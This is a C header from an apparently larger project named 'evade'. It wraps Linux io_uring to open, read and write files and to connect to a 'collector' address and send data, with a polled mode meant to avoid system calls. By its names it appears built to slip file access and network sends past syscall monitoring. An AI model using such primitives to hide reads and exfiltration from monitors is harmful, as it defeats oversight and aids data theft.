/* SPDX-License-Identifier: GPL-2.0-or-later */
/* io_uring by its system calls: one operation at a time, waited for. */
#ifndef EVADE_URING_H
#define EVADE_URING_H

#include "evade.h"
#include <linux/io_uring.h>

struct ring {
	int fd;
	bool polled; /* a kernel thread submits: the caller makes no system call for an operation */
	uint32_t *sq_tail, *sq_mask, *sq_flags, *sq_array;
	uint32_t *cq_head, *cq_tail, *cq_mask;
	struct io_uring_sqe *sqes;
	struct io_uring_cqe *cqes;
};

static inline struct ring ring_open(uint32_t flags)
{
	struct io_uring_params p = {.flags = flags, .sq_thread_idle = 2000};
	struct ring r = {.polled = flags & IORING_SETUP_SQPOLL};
	char *sq, *cq;

	r.fd = must(syscall(SYS_io_uring_setup, 8, &p), "io_uring_setup");
	sq = mmap(NULL, p.sq_off.array + p.sq_entries * 4, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r.fd,
		  IORING_OFF_SQ_RING);
	cq = mmap(NULL, p.cq_off.cqes + p.cq_entries * sizeof(*r.cqes), PROT_READ | PROT_WRITE,
		  MAP_SHARED | MAP_POPULATE, r.fd, IORING_OFF_CQ_RING);
	r.sqes = mmap(NULL, p.sq_entries * sizeof(*r.sqes), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r.fd,
		      IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || r.sqes == MAP_FAILED)
		cant("mmap of a ring");
	r.sq_tail = (void *)(sq + p.sq_off.tail);
	r.sq_mask = (void *)(sq + p.sq_off.ring_mask);
	r.sq_flags = (void *)(sq + p.sq_off.flags);
	r.sq_array = (void *)(sq + p.sq_off.array);
	r.cq_head = (void *)(cq + p.cq_off.head);
	r.cq_tail = (void *)(cq + p.cq_off.tail);
	r.cq_mask = (void *)(cq + p.cq_off.ring_mask);
	r.cqes = (void *)(cq + p.cq_off.cqes);
	return r;
}

/* Begins an operation. */
static inline void ring_begin(struct ring *r, struct io_uring_sqe sqe)
{
	uint32_t tail = *r->sq_tail;

	r->sqes[tail & *r->sq_mask] = sqe;
	r->sq_array[tail & *r->sq_mask] = tail & *r->sq_mask;
	__atomic_store_n(r->sq_tail, tail + 1, __ATOMIC_SEQ_CST);
	if (!r->polled || (__atomic_load_n(r->sq_flags, __ATOMIC_SEQ_CST) & IORING_SQ_NEED_WAKEUP))
		must(syscall(SYS_io_uring_enter, r->fd, r->polled ? 0 : 1, 0, r->polled ? IORING_ENTER_SQ_WAKEUP : 0,
			     NULL, 0),
		     "io_uring_enter");
}

/* Does one operation and returns its result: what the system call would have returned. */
static inline int ring_do(struct ring *r, struct io_uring_sqe sqe)
{
	uint32_t head = *r->cq_head;
	int result;

	ring_begin(r, sqe);
	while (__atomic_load_n(r->cq_tail, __ATOMIC_ACQUIRE) == head)
		must(syscall(SYS_io_uring_enter, r->fd, 0, 1, IORING_ENTER_GETEVENTS, NULL, 0), "io_uring_enter");
	result = r->cqes[head & *r->cq_mask].res;
	__atomic_store_n(r->cq_head, head + 1, __ATOMIC_RELEASE);
	if (result < 0) {
		errno = -result;
		cant("an io_uring operation");
	}
	return result;
}

static inline int ring_openat(struct ring *r, const char *path, int flags)
{
	return ring_do(r, (struct io_uring_sqe){.opcode = IORING_OP_OPENAT,
						.fd = AT_FDCWD,
						.addr = (uintptr_t)path,
						.len = 0600,
						.open_flags = (uint32_t)flags});
}

static inline size_t ring_read(struct ring *r, int fd, char *data)
{
	return ring_do(r,
		       (struct io_uring_sqe){.opcode = IORING_OP_READ, .fd = fd, .addr = (uintptr_t)data, .len = ROOM});
}

static inline void ring_write(struct ring *r, int fd, const void *data, size_t len, uint64_t offset)
{
	ring_do(r, (struct io_uring_sqe){.opcode = IORING_OP_WRITE,
					 .fd = fd,
					 .off = offset,
					 .addr = (uintptr_t)data,
					 .len = (uint32_t)len});
}

static inline int ring_dial(struct ring *r)
{
	struct sockaddr_in to = collector();
	int fd = must(socket(AF_INET, SOCK_STREAM, 0), "socket");

	ring_do(r, (struct io_uring_sqe){
			   .opcode = IORING_OP_CONNECT, .fd = fd, .off = sizeof(to), .addr = (uintptr_t)&to});
	return fd;
}

static inline void ring_send(struct ring *r, int fd, const char *data, size_t len)
{
	ring_do(r, (struct io_uring_sqe){
			   .opcode = IORING_OP_SEND, .fd = fd, .addr = (uintptr_t)data, .len = (uint32_t)len});
}

#endif
